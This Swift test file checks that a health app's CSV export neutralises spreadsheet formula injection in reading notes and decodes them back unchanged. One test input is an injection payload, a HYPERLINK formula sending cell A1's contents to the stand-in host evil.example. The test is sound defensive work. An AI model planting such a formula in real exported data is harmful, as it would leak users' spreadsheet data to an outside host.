import HealthCore
import HealthInterchange
import Testing

/// A note a spreadsheet would run as a formula is written guarded in every CSV, and HealthLog's
/// own CSV reads back exactly what was entered.
@Suite struct SpreadsheetGuardTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        ("+1 pill", "'+1 pill"), ("-5 after the walk", "'-5 after the walk"), ("@doctor", "'@doctor"),
        ("\tindented", "'\tindented"), ("\rcarriage", "\"'\rcarriage\""), ("'=quoted", "''=quoted"), ("''", "'''"),
        ("'tis fine", "'tis fine"), ("'", "'"), ("a = b", "a = b"), ("", ""),
    ])
    func guardedAndReadBackExactly(note: String, cell: String) throws {
        let reading = Reading(
            id: "6513270e-269e-4d37-b2a7-4de452e6b438", profileID: "dad",
            takenAt: ZonedInstant(iso8601: "2026-10-06T07:01:00+08:00")!, bloodPressure: BloodPressure(systolic: 155, diastolic: 95), note: note)
        let line = ReadingCSVCodec.encode(reading)
        #expect(line == "6513270e-269e-4d37-b2a7-4de452e6b438,dad,2026-10-06T07:01:00+08:00,155,95,,,,\(cell),home")
        var cells: [[String]] = []
        try CSVReader(bytes: Array(line.utf8)).forEachRecord { cells.append($0.cells) }
        #expect(try ReadingCSVCodec.decode(cells[0], zone: FixedOffsetZone(minutes: 0), now: 5).note == note)
    }

    @Test func theGuardIsUndoneOnlyWhereItWasAdded() {
        for text in ["'hello", "'", "it's", "=x", "''x", "'-"] {
            #expect(SpreadsheetGuard.unguarded(SpreadsheetGuard.guarded(text)) == text, "\(text)")
        }
        #expect(SpreadsheetGuard.unguarded("'hello") == "'hello", "an apostrophe a person typed stays")
    }
}
